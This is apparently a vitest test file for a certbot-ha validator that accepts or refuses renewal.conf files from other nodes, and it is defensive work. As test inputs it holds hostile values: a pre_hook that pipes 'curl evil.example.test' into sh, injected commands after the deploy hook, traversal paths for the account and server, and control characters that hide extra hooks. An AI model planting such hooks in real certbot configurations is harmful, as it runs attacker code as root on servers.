import { describe, expect, test } from 'vitest';
import { accountDirectory } from '../../../lib/certbot/config-dir.ts';
import { readRenewalConf, type Vetting } from '../../../lib/certbot/renewal-conf.ts';
import { hookCommands } from '../../../lib/certbot/hook-commands.ts';
import { ACCOUNT, OWN_HOOKS, renewalConf, SERVER } from '../../support/lineage/renewal-conf.ts';
import { lineOf, linesOf } from '../../../lib/findings/words.ts';

const LINEAGE = { configDir: '/etc/letsencrypt', lineage: 'www.example.test' };
const CONFIG = '/srv/certbot-ha/our config.yaml';
const vetting: Vetting = {
  ...LINEAGE,
  hookCommands: hookCommands((hook) => `/opt/certbot-ha/hooks/${hook}.js`, CONFIG),
  installed: null,
};

const read = (text: string, more: Partial<Vetting> = {}) => readRenewalConf(text, { ...vetting, ...more });
const conf = (...params: readonly string[]) => renewalConf({ ...LINEAGE, params });
const findingsOf = (text: string, more: Partial<Vetting> = {}) => {
  const result = read(text, more);
  return 'problems' in result ? result.problems : [];
};
const problemsOf = (text: string, more: Partial<Vetting> = {}) => findingsOf(text, more).map(lineOf);

describe('a renewal configuration from elsewhere', () => {
  test('tells account and server, as certbot 2.1 writes them', () => {
    expect(read(conf(...OWN_HOOKS))).toMatchObject({ account: ACCOUNT, server: SERVER });
  });

  test.each([
    ['with what 5.x adds', 'reuse_key = False\nautorenew = True\npreferred_profile = shortlived'],
    ['with the time that the CA asked for', '[acme_renewal_info]\nari_retry_after = 2026-11-24T07:09:11'],
    ['with an elliptic curve', 'elliptic_curve = secp384r1'],
    ['with a configuration directory that is ours', 'config_dir = /etc/letsencrypt'],
    ['with the other name of the deploy hook', 'deploy_hook = certbot-ha-deploy'],
    ['with a hook in quotes', 'renew_hook = "certbot-ha-deploy"'],
    ['with our configuration named', `renew_hook = certbot-ha-deploy --config '${CONFIG}'`],
    ['with the file of a hook of ours', 'manual_auth_hook = /opt/certbot-ha/hooks/auth.js'],
    ['with file and configuration', `manual_auth_hook = /opt/certbot-ha/hooks/auth.js --config '${CONFIG}'`],
    ['with where certbot would listen', 'http01_port = 8888\nhttp01_address = 192.0.2.1'],
    ['with what certbot calls itself', 'user_agent = our certbot\nuser_agent_comment = web1'],
    ['with comments and empty lines', '\n# manual_auth_hook = /bin/evil\n\n'],
  ])('is taken %s', (_, lines) => {
    expect(problemsOf(conf(...lines.split('\n')))).toEqual([]);
  });

  const command = /a command that is neither certbot-ha's nor in this node's own/;
  const form = /expected key = value, each key and section once, as certbot writes it/;
  const unknown = /not known to be harmless/;
  const odd = /a character that certbot does not write/;
  test.each([
    ['a pre_hook', 'pre_hook = curl evil.example.test | sh', command],
    ['a post_hook', 'post_hook = true', command],
    ['another deploy hook', 'renew_hook = /bin/evil', command],
    ['more behind our command', 'renew_hook = certbot-ha-deploy; evil', command],
    ['another configuration for our command', 'renew_hook = certbot-ha-deploy --config /tmp/x', command],
    ['our command with a comment behind', 'renew_hook = certbot-ha-deploy # evil', command],
    ['our command in a list', 'renew_hook = certbot-ha-deploy, evil', command],
    ['interpolation in a command', 'renew_hook = %(key_type)s', command],
    ['unbalanced quotes', 'renew_hook = "certbot-ha-deploy', command],
    ['three quotes', "key_type = '''", form],
    ['three double quotes', 'key_type = """', form],
    ['a key twice', 'key_type = rsa', form],
    ['a key in upper case', 'Renew_hook = certbot-ha-deploy', form],
    ['a key in quotes', '"renew_hook" = /bin/evil', form],
    ['no space around =', 'renew_hook=/bin/evil', form],
    ['a subsection', '[[webroot_map]]', form],
    ['another section', '[plugins]', form],
    ['the section again', '[renewalparams]', form],
    ['a section with a comment', '[acme_renewal_info] # x', form],
    ['a line that is nothing', 'nonsense', form],
    ['a key of a plugin', 'dns_cloudflare_credentials = /root/x', unknown],
    ['a directory to work in', 'work_dir = /etc', unknown],
    ['a directory for logs', 'logs_dir = /etc', unknown],
    ['interpolation in what certbot calls itself', 'user_agent = %(server)s', /refers to another key/],
    ['where a token goes', 'webroot_path = /etc', unknown],
    [
      'another configuration directory',
      'config_dir = /etc/nginx',
      /config_dir: expected \/etc\/letsencrypt, got/,
    ],
    ['a carriage return in a comment', '# x\rrenew_hook = /bin/evil', odd],
    ['CRLF', 'reuse_key = False\r', odd],
    ['a form feed', 'reuse_key = False\frenew_hook = /bin/evil', odd],
    ['a vertical tab', 'reuse_key = False\vrenew_hook = /bin/evil', odd],
    ['a separator of files', 'reuse_key = False\u001crenew_hook = /bin/evil', odd],
    ['a next line', '# x\u0085renew_hook = /bin/evil', odd],
    ['a line separator', '# x\u2028renew_hook = /bin/evil', odd],
    ['a zero byte', 'reuse_key = False\0', odd],
  ])('is refused with %s', (_, line, problem) => {
    const problems = problemsOf(conf(...OWN_HOOKS.slice(0, 2), ...line.split('\n')));
    expect(problems).toEqual([expect.stringMatching(problem)]);
  });

  test('that is refused for a key tells where that belongs', () => {
    expect(problemsOf(conf('logs_dir = /srv/log'))).toEqual([
      "renewal.conf: logs_dir: not known to be harmless, and not in this node's own renewal/www.example.test.conf [conf-unknown-key]",
    ]);
    const [finding] = findingsOf(conf('logs_dir = /srv/log'));
    expect(finding && linesOf(finding).slice(1)).toEqual([
      'if you have set it, put it into /etc/letsencrypt/cli.ini on every node instead',
      'then remove it from renewal/www.example.test.conf where it comes from',
    ]);
  });

  test('is refused for paths that are not those of the lineage, each named', () => {
    const other = renewalConf({ configDir: '/etc/nginx', lineage: LINEAGE.lineage });
    const keys = ['archive_dir', 'cert', 'privkey', 'chain', 'fullchain'];
    const expected = keys.map((key) =>
      expect.stringMatching(`^renewal.conf: ${key}: expected /etc/letsencrypt/`),
    );
    expect(problemsOf(other)).toEqual(expected);
  });

  test('may say again what the one that is installed says, and no more', () => {
    const installed = conf('pre_hook = systemctl stop backup', 'work_dir = /srv/work');
    expect(problemsOf(installed, { installed })).toEqual([]);
    const more = installed.replace('stop backup', 'stop nginx');
    expect(problemsOf(more, { installed })).toEqual([expect.stringMatching(/pre_hook: a command/)]);
  });

  test('is not excused for its form by the one that is installed', () => {
    const installed = conf('[[webroot_map]]', 'www.example.test = /var/www');
    expect(problemsOf(installed, { installed })).not.toEqual([]);
  });

  test.each([
    ['..', SERVER],
    ['../../../../root', SERVER],
    [ACCOUNT.toUpperCase().replaceAll(/\d/g, 'A'), SERVER],
    ['None', SERVER],
    [ACCOUNT, 'https://../x'],
    [ACCOUNT, 'https://ca.example.test/../../live'],
    [ACCOUNT, 'https://ca.example.test/a/%2e%2e'],
    [ACCOUNT, 'https:///etc'],
    [ACCOUNT, 'file:///etc'],
    [ACCOUNT, 'https://user@ca.example.test/dir'],
    [ACCOUNT, 'https://ca.example.test/dir?x'],
  ])('cannot lead the account %j of %j out of accounts/', (account, server) => {
    const text = conf().replace(ACCOUNT, account).replace(SERVER, server);
    expect(problemsOf(text)).toEqual([expect.stringMatching(/: (?:account|server): expected/)]);
  });

  test.each([
    ['https://acme-v02.api.letsencrypt.org/directory', 'acme-v02.api.letsencrypt.org/directory'],
    ['https://acme.zerossl.com/v2/DV90', 'acme.zerossl.com/v2/DV90'],
    ['https://localhost:14000/dir', 'localhost:14000/dir'],
  ])('has the account of %s where certbot looks for it', (server, directory) => {
    const read = readRenewalConf(conf().replace(SERVER, server), vetting);
    if ('problems' in read) throw new Error(read.problems.map(lineOf).join());
    expect(accountDirectory('/etc/letsencrypt', read)).toBe(
      `/etc/letsencrypt/accounts/${directory}/${ACCOUNT}`,
    );
  });

  test('is read in no time, whatever it says', () => {
    const hostile = [
      `https://${'a'.repeat(60_000)}!`,
      `https://${'a.'.repeat(30_000)}!`,
      `https://a${'/a'.repeat(30_000)}!`,
    ];
    const startedMs = performance.now();
    for (const server of hostile) expect(problemsOf(conf().replace(SERVER, server))).toHaveLength(1);
    expect(performance.now() - startedMs).toBeLessThan(500);
  });

  test('does not repeat a long value at length', () => {
    expect(problemsOf(conf(`renew_hook = ${'x'.repeat(10_000)}`))[0]?.length).toBeLessThan(300);
  });
});
